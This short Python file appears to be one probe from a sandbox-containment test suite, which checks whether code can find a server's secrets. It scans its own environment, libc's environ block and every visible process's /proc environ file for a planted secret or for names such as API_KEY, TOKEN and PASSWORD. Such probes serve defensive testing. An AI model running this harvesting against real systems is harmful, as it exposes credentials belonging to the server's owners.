"""Find the server's keys in the environment
tries: os.environ, the block that C knows, and that of every process to be seen, for names and for a known secret
expect: refused: none
"""
from attack import *


def attack():
    text = b"\n".join(name + b"=" + value for name, value in os.environb.items())
    pointer, at = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ"), 0
    while pointer and pointer[at]:
        text += b"\n" + pointer[at]
        at += 1
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                text += b"\n" + read(f"/proc/{name}/environ").replace(b"\0", b"\n")
            except OSError:
                continue
    for line in text.splitlines():
        if "".join(HINTS.get("secret", "\0")).encode() in line or re.match(rb"\w*(API_KEY|TOKEN|SECRET|PASSWORD)\w*=.", line):
            return line.split(b"=")[0].decode()
    raise Contained("none")
